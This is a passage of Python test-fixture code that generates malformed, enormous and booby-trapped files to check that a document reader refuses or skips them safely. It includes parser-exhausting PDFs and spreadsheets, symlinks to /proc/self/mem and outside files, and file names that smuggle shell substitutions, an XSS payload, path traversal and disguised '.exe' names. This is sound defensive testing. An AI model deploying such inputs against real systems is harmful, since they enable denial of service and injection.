        "huger image": lambda: _page(shows_image, page="/Resources<</XObject<</I 5 0 R>>>>", more={5: _stream(bytes(100), image % (2**31 - 1, 2**31 - 1), times=1)}),
        "huge fax": lambda: _page(shows_image, page="/Resources<</XObject<</I 5 0 R>>>>", more={5: _stream(bytes(100), image % (60_000, 60_000) + "/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000/Rows 60000>>")}),
        "broken jpeg 2000": lambda: _page(shows_image, page="/Resources<</XObject<</I 5 0 R>>>>", more={5: _stream(b"\0\0\0\x0cjP  \r\n\x87\n" + chance.randbytes(5_000), image % (60_000, 60_000) + "/Filter/JPXDecode")}),
        "form in itself": lambda: _page(_stream(b"/X Do"), page="/Resources<</XObject<</X 5 0 R>>>>", more={5: _stream(_WORDS + b"/X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>")}),
        "doubling forms": lambda: _page(_stream(b"/X Do"), page="/Resources<</XObject<</X 5 0 R>>>>", more=forms),
        "letter in itself": lambda: _page(_stream(b"BT /F1 9 Tf (aaa) Tj ET"), page=drawn, more={5: _stream(b"BT /F1 9 Tf (aaaa) Tj ET"), 6: "<</Font<</F1 7 0 R>>>>", 7: "<</Type/Font/Subtype/Type3/CharProcs<</a 5 0 R>>/Resources 6 0 R>>"}),
        "long meaning": lambda: _page(_stream(b"BT /F1 9 Tf (" + b"a" * 5_000 + b") Tj ET"), page=mapped, more={5: _stream(wide_map.encode())}),
        "map of itself": lambda: _page(_stream(_WORDS), page=mapped, more={5: _stream(b"/A usecmap", "/UseCMap 5 0 R/CMapName/A")}),
        "huge paper": lambda: _tree("<</Type/Pages/Kids[3 0 R]/Count 1/UserUnit 1e30/CropBox[-1e38 -1e38 1e38 1e38]>>"),
        "paper of nothing": lambda: _tree("<</Type/Pages/Kids[3 0 R]/Count 1/CropBox[0 0 0 0]/Rotate 45>>"),
        "far letters": lambda: _page(_stream(b"BT /F1 1e30 Tf 1e38 1e38 Td (far) Tj /F1 10 Tf -1e38 0 Td (words) Tj 0 0 0 0 0 0 Tm (flat) Tj ET")),
        "scattered letters": lambda: make_pdf([scattered]),
        "turned letters": lambda: make_pdf([turned]),
        "a million letters": lambda: make_pdf([show_lines(["abcdefghij " * 10] * 9_000, leading=0.05, size=0.5)]),
        "many notes": lambda: _page(_stream(_WORDS), page=f"{_FONT}/Annots[{'5 0 R ' * 200_000}]", more={5: "<</Type/Annot/Subtype/Widget/FT/Tx/V(x)/Rect[0 0 9 9]>>"}),
        "note in itself": lambda: _page(_stream(_WORDS), page=f"{_FONT}/Annots 5 0 R", more={5: "[5 0 R 6 0 R]", 6: "<</Subtype/Widget/Parent 6 0 R/Kids[6 0 R]/Popup 6 0 R/AP<</N 6 0 R>>>>"}),
        "one stream often": lambda: _page("[" + "5 0 R " * 300_000 + "]", more={5: _stream(_WORDS)}),
        "deep array": lambda: _page(_stream(_WORDS), more={5: "[" * 500_000}, root="/X 5 0 R"),
        "deep dictionary": lambda: _page(_stream(_WORDS), root="/X " + "<</A" * 300_000),
        "deep operands": lambda: _page(_stream(b"[" * 1_000_000 + _WORDS)),
        "many states": lambda: _page(_stream(b"q " * 3_000_000 + _WORDS)),
        "contents in a ring": lambda: _page(_stream(_WORDS), root="/Outlines 5 0 R/Names 6 0 R/Dests 6 0 R", more={5: "<</First 5 0 R/Next 5 0 R/Last 5 0 R/Parent 5 0 R/Title(x)>>", 6: "<</Kids[6 0 R]/Limits[(a)(z)]>>"}),
        "locked": lambda: _page(_stream(_WORDS)).replace(b"/Root", b"/Encrypt<</Filter/Standard/V 5/R 6/Length 99999/O()/U()/P -1>>/Root"),
        "locked by others": lambda: _page(_stream(_WORDS)).replace(b"/Root", b"/Encrypt<</Filter/Other/V 9>>/Root"),
        "long title": lambda: make_pdf([show_lines(["words"])], info=f"/Title({'T' * 3_000_000})/Author({'A' * 3_000_000})"),
        "only a head": lambda: b"%PDF-1.7\n",
        "a million objects": lambda: b"%PDF-1.7\n" + b"1 0 obj <<>> endobj\n" * MANY,
        "a million heads": lambda: b"%PDF-1.7\n" + b"startxref\n9\n%%EOF\n" * 500_000,
        "xfa": lambda: _page(_stream(_WORDS), root=form, more={5: _stream(xfa.encode())}),
        **{name: partial(_page, _stream(_WORDS), root=f"/OpenAction<<{act}>>/AA<</O<<{act}>>>>") for name, act in acts.items()},
    }  # fmt: skip
    yield from _files("pdf", {f"{name}.pdf": make for name, make in makes.items()}, slow=SLOW)


# Much of everything


def _large_traps() -> Iterator[Trap]:
    long_name = "N" * 190
    sheet = "".join(f'<c r="A{n}" t="s"><v>0</v></c>' for n in range(1, 5_001))
    makes: dict[str, Make] = {
        "names again.csv": lambda: f"{','.join(f'{long_name}{n}' for n in range(2_000))}\n{('1,' * 2_000 + chr(10)) * 500}".encode(),
        "commas.csv": lambda: b"," * 5_000_000,
        "open quote.csv": lambda: b'a,"b\n' + b"words and more\n" * 20_000,
        "quotes.csv": lambda: b'"' * 500_000,
        "one cell.csv": lambda: b"a,b\n1," + b"x" * 300_000,
        "short rows.csv": lambda: b"1,2\n" * 30_000,
        "cr.tsv": lambda: b"\r" * 2_000_000 + b"words",
        "one word.xlsx": lambda: xlsx({"A": sheet}, words=["word " * 20_000]),
        "far cells.xlsx": lambda: xlsx({"A": "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 1_000_001, 500))}),
        "last row.xlsx": lambda: xlsx({"A": '<row r="1048576"><c r="ZZZ9999999"><v>1</v></c></row>'}),
        "empty cells.xlsx": lambda: xlsx({"A": "<row>" + "<c/>" * 3_000_000 + "</row>"}),
        "cells.xlsx": lambda: xlsx({"A": "<row>" + "<c><v>1</v></c>" * 2_100_000 + "</row>"}),
        "digits.xlsx": lambda: xlsx({"A": _rows_of(["x"]) + f"<row><c><v>{'9' * 5_000_000}</v></c><c s='{'9' * 5_000}'><v>1e99999</v></c></row>"}),
        "formats.xlsx": lambda: xlsx({"A": "<row>" + '<c s="0"><v>1.5</v></c>' * 500 + "</row>"}, styles=f'<numFmts><numFmt numFmtId="200" formatCode="{"[h]:0#,?/" * 20_000}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs>'),
        "one sheet often.xlsx": lambda: _sheets_of_one(200),
        "repeated rows.ods": lambda: opendocument("spreadsheet", '<table:table><table:table-row table:number-rows-repeated="999999999"><table:table-cell table:number-columns-repeated="999999999"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'),
        "repeated rows of nothing.ods": lambda: opendocument("spreadsheet", '<table:table><table:table-row table:number-rows-repeated="999999999"/><table:table-row><table:table-cell><text:p>x</text:p></table:table-cell></table:table-row></table:table>' * 2_000),
        "repeated cells.ods": lambda: opendocument("spreadsheet", _table(["xyz"] * 500, more='table:number-columns-repeated="199"').replace("<table:table-row", '<table:table-row table:number-rows-repeated="99"')),
        "one slide often.pptx": lambda: _slides_of_one(30_000),
        "elements.docx": lambda: docx("<w:p/>" * 2_600_000),
        "attributes.docx": lambda: docx(f"<w:p {' '.join(f'a{n}={chr(34)}{chr(34)}' for n in range(400_000))}/>"),
        "paragraphs.docx": lambda: docx(paragraph("a") * 20_000),
        "namespaces.docx": lambda: docx("".join(f'<x{n}:p xmlns:x{n}="urn:{n}"/>' for n in range(100_000))),
        "notes.docx": lambda: docx("".join('<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>' for _ in range(5_000)), parts={"word/footnotes.xml": office_xml("w:footnotes", f'<w:footnote w:id="1">{paragraph("note " * 20_000)}<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote>')}),
        "styles in a ring.docx": lambda: docx(paragraph("words", '<w:pStyle w:val="A"/>') * 3_000, parts={"word/styles.xml": office_xml("w:styles", '<w:style w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:styleId="B"><w:basedOn w:val="A"/></w:style>')}),
        "spaces.odt": lambda: opendocument("text", f"<text:p>x{'<text:s/>' * 1_000_000}x</text:p>"),
        "one chapter often.epub": lambda: epub({"a.xhtml": "<p>words</p>"}, spine='<itemref idref="c0"/>' * 300_000),
        "labels.epub": lambda: epub({"a.xhtml": "<h2>Head</h2>" * 20_000}, items='<item id="n" href="n.ncx" media-type="application/x-dtbncx+xml"/>', parts={"OEBPS/n.ncx": "<ncx><navMap>" + '<navPoint><navLabel><text>Tail</text></navLabel><content src="a.xhtml"/></navPoint>' * 20_000 + "</navMap></ncx>"}),
        "tags.html": lambda: b"<p>" * 1_500_000 + b"words",
        "attribute.html": lambda: b'<p title="' + b"x" * 9_000_000 + b'">words',
        "attributes.html": lambda: b"<p " + b" ".join(b"a%d=1" % n for n in range(300_000)) + b">words",
        "comment.html": lambda: b"<p>words</p><!--" + b"<!--" * 1_000_000,
        "less than.html": lambda: b"<" * 200_000 + b"words",
        "titles.html": lambda: b"<title>t</title>" * 300_000 + b"<p>words",
        "meta.html": lambda: b"<meta name=author content=x>" * 300_000 + b"<p>words",
        "references.html": lambda: b"&#1114112;&#xd800;&NotAnEntity;&amp" * 5_000 + b"<p>words",
        "articles.html": lambda: ("<article><h2>A headline of some words</h2><time datetime=2001-01-01></time><p>" + "Some words of a sentence. " * 5 + "</p></article>").encode() * 500,
        "spaces.html": lambda: b"<p>a" + b" \n" * 3_000_000 + b"b",
        "pre.html": lambda: b"<pre>a</pre>" * 20_000,
        "keys.json": lambda: json.dumps({f"key {n}": n for n in range(20_000)}).encode(),
        "one key.json": lambda: b"{" + b'"a":1,' * 30_000 + b'"a":1}',
        "digits.json": lambda: b'{"a": ' + b"1" * 200_000 + b', "b": -1e' + b"9" * 100_000 + b"}",
        "half characters.json": lambda: b'["' + b"\\ud800" * 50_000 + b'"]',
        "long text.json": lambda: b'{"text": "' + b"x" * 25_000_000 + b'"}',
        "commas.json": lambda: b"[" + b"," * 3_000_000,
        "empty lists.json": lambda: b"[" + b"[]," * 1_000_000 + b"[]]",
        "lines.jsonl": lambda: b"{}\n" * 1_000_000 + b'{"a": "words"}',
        "numbers.jsonl": lambda: b"1\n" * 60_000,
        "cells.ipynb": lambda: json.dumps({"cells": [{"cell_type": "code", "source": "x", "outputs": [{"output_type": "stream", "text": "`" * 10}] * 3}] * 1_000}).encode(),
        "ticks.ipynb": lambda: _notebook("", cells=[{"cell_type": "code", "source": "`" * 20_000 + "\n" + " `" * 10_000}]),
        "bin.rtf": lambda: rb"{\rtf1 words\bin999999999999 " + bytes(1_000) + b"}",
        "marks.rtf": lambda: rb"{\rtf1 " + rb"\b\i\u9999?\'e9" * 60_000 + b"}",
        "alternatives.rtf": lambda: rb"{\rtf1\uc99999999 \u9999 words" + rb"\uc0\u-1" * 5_000 + b"}",
        "backslashes.rtf": lambda: rb"{\rtf1 words " + b"\\" * 300_000 + b"}",
        "information.rtf": lambda: rb"{\rtf1{\info" + rb"{\title " * 300_000 + b"words",
        "fonts.rtf": lambda: rb"{\rtf1{\fonttbl" + b"".join(rb"{\f%d\fcharset%d x;}" % (n, n) for n in range(50_000)) + b"} words}",
        "headers.eml": lambda: _mail("words", *["X-A: b"] * 500_000),
        "one header.eml": lambda: _mail("words", f"X-A: {'b' * 9_000_000}"),
        "folded header.eml": lambda: _mail("words", "X-A: b" + "\r\n b" * 500_000),
        "people.eml": lambda: _mail("words", f"To: {', '.join(f'a{n} <a{n}@b.c>' for n in range(5_000))}"),
        "commas.eml": lambda: _mail("words", f"Cc: {'(,' * 200_000}"),
        "encoded words.eml": lambda: _mail("words", f"To: {'=?utf-8?q?a?= ' * 10_000}"),
        "question marks.eml": lambda: _mail("words", f"To: {'=?a?q?' * 10_000}"),
        "spaces.eml": lambda: _mail("words", f"To: {'=?utf-8?q?a?=' + ' ' * 1_000_000}x"),
        "zeros.eml": lambda: _mail("A" * 30_000_000, "Content-Transfer-Encoding: base64"),
        "base64.eml": lambda: _mail("QQ" * 20_000_000, "Content-Transfer-Encoding: base64"),
        "parts.eml": lambda: _mail("--x\r\nContent-Type: text/plain\r\n\r\na\r\n" * 10_000 + "--x--", "Content-Type: multipart/mixed; boundary=x"),
        "empty parts.eml": lambda: _mail("--x\r\n\r\n" * 400_000 + "--x--", "Content-Type: multipart/mixed; boundary=x"),
        "alternatives.eml": lambda: _mail("--x\r\n\r\nwords\r\n" * 20_000 + "--x--", "Content-Type: multipart/alternative; boundary=x"),
        "name in pieces.eml": lambda: _mail("words", "Content-Disposition: attachment;" + "".join(f"\r\n name*{n}*=a;" for n in range(5_000))),
        "signed.eml": lambda: _mail("-----BEGIN PGP SIGNED MESSAGE-----\n\n" * 30_000 + "words"),
        "wrote.eml": lambda: _mail(("On " + "a b " * 50 + "\n") * 3_000 + "> words"),
        "marks.eml": lambda: _mail("\n".join(">" * (n % 2) + " a" for n in range(1_000))),
        "flowed.eml": lambda: _mail("words \n" * 40_000, "Content-Type: text/plain; format=flowed"),
        "day.eml": lambda: _mail("words").replace(b"1 Jan 2004", b"1" * 100_000 + b" Jan 9"),
        "character set.eml": lambda: _mail("words \xe9", f"Content-Type: text/plain; charset={'x' * 100_000}"),
        "mails.mbox": lambda: _mailbox(*["a"] * 1_000),
        "many mails.mbox": lambda: _mailbox(*["a"] * 600_000),
        "starts.mbox": lambda: b"From 1:11\na:\n\n" * 1_000_000,
        "from.mbox": lambda: b"From " + b"1:" * 3_000_000,
        "items.rss": lambda: _feed(_item("a") * 800),
        "many items.rss": lambda: _feed("<item><title>a</title></item>" * 300_000),
        "long title.rss": lambda: _feed(f"<title>{'T' * 1_000_000}</title>{_item('a')}"),
        "markup.rss": lambda: _feed(_item("&lt;p&gt;" * 300_000)),
        "packed.atom": lambda: b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><content type="application/octet-stream">' + base64.b64encode(bytes(3_000_000)) + b"</content></entry></feed>",
        "days.rss": lambda: _feed(f"<item><pubDate>{'9' * 100_000}</pubDate><description>a</description></item>" * 3),
        "elements.xml": lambda: b"<a>" + b"<b>1</b>" * 30_000 + b"</a>",
        "empty elements.xml": lambda: b"<a>" + b"<b/>" * 2_400_000 + b"words</a>",
        "comments.xml": lambda: b"<a>words" + b"<!---->" * 1_000_000 + b"</a>",
        "sections.xml": lambda: b"<a>words<![CDATA[" + b"]]" * 2_000_000 + b">]]></a>",
        "cues.vtt": lambda: b"WEBVTT\n\n" + b"00:01.000 --> 00:02.000\na b\n\n" * 20_000,
        "arrows.vtt": lambda: b"WEBVTT\n\n" + b"-->" * 1_000_000,
        "voices.vtt": lambda: b"WEBVTT\n\n00:01.000 --> 00:02.000\n" + b"<v " * 30_000,
        "far times.srt": lambda: b"1\n" + b"9" * 100_000 + b":00:00,000 --> 00:00:01,000\nwords\n\n2\n00:00:01,000 --> 00:00:02,000\nwords\n",
        "numbers.srt": lambda: b"1\n" * 1_000_000 + b"00:00:01,000 --> 00:00:02,000\nwords\n",
        "headings.md": lambda: b"# a\n" * 20_000,
        "brackets.md": lambda: b"# " + b"[" * 300_000 + b"\n\nwords",
        "rules.md": lambda: b"- " * 100_000 + b"\n" + b"=" * 100_000,
        "fences.md": lambda: b"```\n" * 20_000 + b"words",
        "front matter.md": lambda: b"---\n" + b"a: b\n" * 50_000 + b"---\nwords",
        "headlines.txt": lambda: b"A HEADLINE OF WORDS\n\n" * 5_000,
        "labels.txt": lambda: b"Title: " * 20_000,
        "dates.txt": lambda: b"1 January 2001 | " * 10_000,
        "one sentence.txt": lambda: b"word " * 60_000,
        "one word.txt": lambda: b"x" * 200_000,
        "one letter a line.txt": lambda: b"a\n\n" * 30_000,
        "blank lines.txt": lambda: b"a" + b"\n" * 300_000 + b"b",
        "spaces.txt": lambda: b"a" + b" " * 300_000 + b"b",
        "accents.txt": lambda: ("a" + "\u0301" * 100_000).encode(),
        "joined.txt": lambda: ("👩\u200d" * 30_000).encode(),
        "leftward.txt": lambda: ("\u202ewords " * 10_000).encode(),
        "no end.txt": lambda: ("a\u2029" * 30_000).encode(),
        "too much.txt": lambda: b"words " * 3_500_000,
        "one of each.txt": lambda: "".join(chr(n) for n in range(32, 0xD800)).encode(),
        "too large.txt": lambda: b"words " * 16_700_000,
    }  # fmt: skip
    yield from _files("much", makes, slow=SLOW)


def _sheets_of_one(number: int) -> bytes:
    listed = "".join(f'<sheet name="S{n}" r:id="rId1"/>' for n in range(number))
    return xlsx(
        {"A": _rows_of(["words"] * 50)}, parts={"xl/workbook.xml": office_xml("workbook", f"<sheets>{listed}</sheets>")}
    )


def _slides_of_one(number: int) -> bytes:
    ids = '<p:sldId id="256" r:id="rId1"/>' * number
    return pptx(
        [shape("words " * 200)],
        parts={"ppt/presentation.xml": office_xml("p:presentation", f"<p:sldIdLst>{ids}</p:sldIdLst>")},
    )


# Damage


def _changed_traps(good: Mapping[str, bytes]) -> Iterator[Trap]:
    for ending, content in good.items():
        for number, change in enumerate(_CHANGES):
            chance = random.Random(f"{SEED} {ending} {number}")
            yield _file("changed", f"{number:02}{ending}", partial(change, content, chance))


def _blocks(content: bytes, chance: random.Random) -> tuple[int, int, int]:
    """Three places, in their order."""
    first, second, third = sorted(chance.randrange(len(content)) for _ in range(3))
    return first, second, third


def _flipped(content: bytes, chance: random.Random, bits: int) -> bytes:
    changed = bytearray(content)
    for _ in range(bits):
        changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
    return bytes(changed)


def _cut(content: bytes, _: random.Random, part: float) -> bytes:
    return content[: int(len(content) * part)]


def _exchanged(content: bytes, chance: random.Random) -> bytes:
    a, b, c = _blocks(content, chance)
    return content[:a] + content[b:c] + content[a:b] + content[c:]


def _doubled(content: bytes, chance: random.Random) -> bytes:
    a, b, _ = _blocks(content, chance)
    return content[:b] + content[a:b] * 50 + content[b:]


def _zeroed(content: bytes, chance: random.Random) -> bytes:
    a, b, _ = _blocks(content, chance)
    return content[:a] + bytes(b - a) + content[b:]


def _without(content: bytes, chance: random.Random) -> bytes:
    a, b, _ = _blocks(content, chance)
    return content[:a] + content[b:]


def _with_noise(content: bytes, chance: random.Random) -> bytes:
    at = chance.randrange(len(content))
    return content[:at] + chance.randbytes(100) + content[at:]


_CHANGES: list[Callable[[bytes, random.Random], bytes]] = [
    *(partial(_flipped, bits=bits) for bits in (1, 1, 5, 100)),
    *(partial(_cut, part=part) for part in (0.05, 0.3, 0.6, 0.9, 0.99)),
    _exchanged,
    _doubled,
    _zeroed,
    _without,
    _with_noise,
    lambda content, chance: chance.randbytes(50) + content,
    lambda content, chance: content + chance.randbytes(5_000),
]


def _exchanged_traps(good: Mapping[str, bytes]) -> Iterator[Trap]:
    """Every format under an ending of every other reader."""
    readers = {reader: ending for ending, reader in reversed(READERS.items())}
    for own, content in good.items():
        for reader, ending in readers.items():
            if reader != READERS[own]:
                yield _file("exchanged", f"{own[1:]}{ending}", lambda content=content: content)


def _noise_traps() -> Iterator[Trap]:
    for ending in READERS:
        chance = random.Random(f"{SEED} {ending}")
        yield _file("noise", f"short{ending}", partial(bytes, chance.randbytes(300)), "refused")
        yield _file("noise", f"long{ending}", partial(bytes, chance.randbytes(100_000)), "refused")
        yield _file("noise", f"zeros{ending}", partial(bytes, 100_000), "refused")
        letters = bytes(chance.choices(range(32, 127), k=3_000))
        yield _file("noise", f"letters{ending}", partial(bytes, letters))


def _empty_traps() -> Iterator[Trap]:
    for ending in READERS:
        yield _file("empty", f"nothing{ending}", bytes, "refused")
        yield _file("empty", f"white{ending}", partial(bytes, b" \r\n\t\xe2\x80\x8b" * 50), "refused")


# What a folder may hold


def _name_traps() -> Iterator[Trap]:
    names = ("a\nb", "\x1b[2J\x1b[31m", "\u202etxt.exe", "\u2066\u200b\ufeff", "a" * 251, "💣" * 62, "-rf", "~", "$(x)", "`x`",
             "a'b\"c", "<img src=x onerror=alert(1)>", "[a](http:__x)", "|", "%00%s{}", "a\\..\\..\\x", " ", "a\tb\rc", "CON", "a.txt.exe",
             "e\u0301", "\u00e9")  # fmt: skip
    for number, name in enumerate(names):
        yield _file("names", f"{name}.txt", f"Words of the oddly named file {number}.".encode, "read")
    refused = (
        "no ending",
        "a.xyz\n",
        "a." + "\u202e" * 80,
        "b." + "x" * 253,
        "a.txt ",
        "a.\x1b[31mtxt",
        "txt.doc",
        "a..",
    )
    yield from (_file("names", name, partial(bytes, b"words"), "refused") for name in refused)


def _special_traps(outside: Outside) -> Iterator[Trap]:
    def to(target: str | Path) -> Callable[[Path], None]:
        return lambda path: path.symlink_to(target)

    yield Trap("special", "pipe.txt", os.mkfifo, "refused")
    yield Trap("special", "socket.txt", _listen, "refused")
    yield Trap("special", "folder.txt", Path.mkdir, "left out")
    yield Trap("special", "canary.txt", to(outside.canary), "left out")
    yield Trap("special", "zeros.txt", to("/dev/zero"), "left out")
    yield Trap("special", "noise.pdf", to("/dev/urandom"), "left out")
    yield Trap("special", "memory.txt", to("/proc/self/mem"), "left out")
    yield Trap("special", "itself.txt", to("itself.txt"), "refused")
    yield Trap("special", "ring a.txt", to("ring b.txt"), "refused")
    yield Trap("special", "ring b.txt", to("ring a.txt"), "refused")
    yield Trap("special", "nowhere.txt", to("nothing here.txt"), "refused")
    yield Trap("special", "up", to(".."), "left out")
    yield Trap("special", "here", to("."), "left out")
    yield Trap("special", "root", to("/"), "left out")
    yield Trap("special", "to a pipe.txt", to("pipe.txt"), "refused")
    yield Trap("special", "too large.txt", partial(_stretch, size=10**12), "refused")
    yield Trap("special", "zeros.pdf", partial(_stretch, size=99_000_000), "refused")
    yield Trap("special", ".hidden.txt", partial(_write, "hidden".encode), "left out")


def _listen(path: Path) -> None:
    here = os.open(path.parent, os.O_RDONLY)
    try:
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind(f"/proc/self/fd/{here}/{path.name}")  # the whole path may be too long for a socket
    finally:
        os.close(here)


def _stretch(path: Path, size: int) -> None:
    path.touch()
    os.truncate(path, size)
